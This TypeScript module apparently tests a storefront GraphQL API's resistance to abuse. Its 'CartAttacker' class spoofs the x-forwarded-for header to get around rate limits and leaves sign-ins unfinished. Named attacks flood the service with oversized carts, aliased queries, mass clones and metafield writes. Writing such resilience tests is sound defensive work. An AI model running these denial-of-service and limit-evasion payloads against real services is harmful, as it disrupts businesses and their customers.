import { queryService } from "../../query-service.ts";

interface Found {
  readonly products: {
    readonly nodes: readonly { readonly variants: { nodes: readonly { id: string }[] } }[];
  };
}

/** Sends the commerce service what is dearest with the largest carts. */
export class CartAttacker {
  readonly url: string;
  readonly variant: string;
  #networks = 0;

  private constructor(url: string, variant: string) {
    [this.url, this.variant] = [url, variant];
  }

  static async of(url: string): Promise<CartAttacker> {
    const query = `{ products(first: 1, query: "available_for_sale:true") { nodes { variants(first: 1) { nodes { id } } } } }`;
    const { products } = await queryService<Found>(url, query);
    return new CartAttacker(url, products.nodes[0]!.variants.nodes[0]!.id);
  }

  /** Goes on from another network. Limits last ten minutes. */
  changeNetwork(): void {
    this.#networks += 1;
  }

  /** Resolves with the response's status. */
  async send(query: string, variables: object = {}): Promise<number> {
    const response = await fetch(`${this.url}/api/2026-04/graphql.json`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-forwarded-for": `203.0.113.${this.#networks}` },
      body: JSON.stringify({ query, variables }),
    });
    await response.arrayBuffer();
    return response.status;
  }

  /** Begins to sign in, which the service remembers for an hour. */
  async beginSignIn(): Promise<number> {
    const request = new URL("/authentication/1/oauth/authorize", this.url);
    request.search = new URLSearchParams({
      client_id: "circlet-storefront",
      response_type: "code",
      redirect_uri: "http://localhost:3000/",
      scope: "openid email",
      state: "a-state-of-the-attack",
      nonce: "a-nonce-of-the-attack",
      code_challenge: "a".repeat(43),
      code_challenge_method: "S256",
    }).toString();
    const headers = { "x-forwarded-for": `203.0.113.${this.#networks}` };
    const response = await fetch(request, { headers, redirect: "manual" });
    await response.arrayBuffer();
    return response.status;
  }
}

/** A cart with 250 kB, made from this machine, which has no limits. */
async function largestCart({ url, variant }: CartAttacker): Promise<string> {
  const attributes = Array.from({ length: 25 }, (_, at) => ({ key: `a${at}`, value: "x".repeat(4900) }));
  const create = `mutation ($variant: ID!, $attributes: [AttributeInput!]!) { cartCreate(input: {
    attributes: $attributes, lines: [{ merchandiseId: $variant, attributes: $attributes }] }) { cart { id } } }`;
  const { cartCreate } = await queryService<{ cartCreate: { cart: { id: string } } }>(url, create, {
    variant,
    attributes,
  });
  return cartCreate.cart.id;
}

const largestCarts = (attacker: CartAttacker, count: number) =>
  Promise.all(Array.from({ length: count }, () => largestCart(attacker)));

const all = "attributes { key value } lines(first: 2) { nodes { attributes { key value } } }";
const aliased = (ids: readonly string[], field: (id: string) => string) =>
  ids.map((id, at) => `a${at}: ${field(id)}`).join(" ");
const repeated = (times: number, send: () => Promise<number>) =>
  Promise.all(Array.from({ length: times }, send));

function changeNotes(attacker: CartAttacker, ids: readonly string[]): Promise<number> {
  return attacker.send(
    `mutation { ${aliased(ids, (id) => `cartNoteUpdate(cartId: "${id}", note: "n") { cart { id } }`)} }`,
  );
}

const setMetafields = (selection: string) =>
  `mutation ($m: [CartMetafieldsSetInput!]!) { cartMetafieldsSet(metafields: $m) { metafields { key ${selection} } } }`;
const metafield = (ownerId: string, at: number) => ({ ownerId, key: `k${at}`, type: "t", value: "v" });

/** Each makes its carts, and returns what the attacker then sends. */
export const cartAttacks: Readonly<
  Record<string, (attacker: CartAttacker) => Promise<() => Promise<readonly number[]>>>
> = {
  "600 metafields of one cart": async (attacker) => {
    const cart = await largestCart(attacker);
    const m = Array.from({ length: 600 }, (_, at) => metafield(cart, at));
    return () => repeated(10, () => attacker.send(setMetafields(""), { m }));
  },
  "metafields of 25 carts with all that these have": async (attacker) => {
    const m = (await largestCarts(attacker, 25)).map(metafield);
    return () =>
      repeated(10, () => attacker.send(setMetafields(`parentResource { ... on Cart { ${all} } }`), { m }));
  },
  "50 times one cart": async (attacker) => {
    const cart = await largestCart(attacker);
    const query = `{ ${aliased(Array(50).fill(cart), (id) => `cart(id: "${id}") { ${all} }`)} }`;
    return () => repeated(10, () => attacker.send(query));
  },
  "10 carts, read again and again": async (attacker) => {
    const query = `{ ${aliased(await largestCarts(attacker, 10), (id) => `cart(id: "${id}") { ${all} }`)} }`;
    return () => repeated(20, () => attacker.send(query));
  },
  "12,250 nodes of one cart": async (attacker) => {
    const ids = Array(250).fill(await largestCart(attacker));
    const query = `query ($ids: [ID!]!) { ${aliased(Array(49).fill(""), () => "nodes(ids: $ids) { id }")} }`;
    return () => repeated(10, () => attacker.send(query, { ids }));
  },
  "50 copies of one cart in each request": async (attacker) => {
    const copies = aliased(
      Array(50).fill(await largestCart(attacker)),
      (id) => `cartClone(cartId: "${id}") { cart { id } }`,
    );
    return () => repeated(20, () => attacker.send(`mutation { ${copies} }`));
  },
  "changes of 50 carts in each request": async (attacker) => {
    const carts = await largestCarts(attacker, 50);
    return () => repeated(20, () => changeNotes(attacker, carts));
  },
  "400 sign-ins that nobody finishes": async (attacker) => () => repeated(400, () => attacker.beginSignIn()),
  "250 lines with one large variable": async (attacker) => {
    const attributes = Array.from({ length: 25 }, (_, at) => ({ key: `a${at}`, value: "x".repeat(4800) }));
    const line = `{ merchandiseId: "${attacker.variant}", attributes: $a }`;
    const query = `mutation ($a: [AttributeInput!]) { cartCreate(input: { lines: [${line.repeat(120)}] }) { cart { id } } }`;
    return () => repeated(20, () => attacker.send(query, { a: attributes }));
  },
};
